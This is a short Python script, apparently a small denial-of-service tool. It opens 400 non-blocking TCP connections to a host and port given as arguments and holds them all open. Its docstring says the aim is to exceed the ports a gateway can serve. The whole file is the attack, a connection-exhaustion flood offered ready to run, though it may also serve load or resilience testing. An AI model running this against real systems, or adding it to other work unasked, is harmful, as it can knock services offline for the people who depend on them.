"""More connections than the gateway has ports for, all of them held."""
import socket as _socket
import sys as _sys

_kept = []
for _ in range(400):
    _one = _socket.socket()
    _one.setblocking(False)
    _one.connect_ex((_sys.argv[1], int(_sys.argv[2])))
    _kept.append(_one)
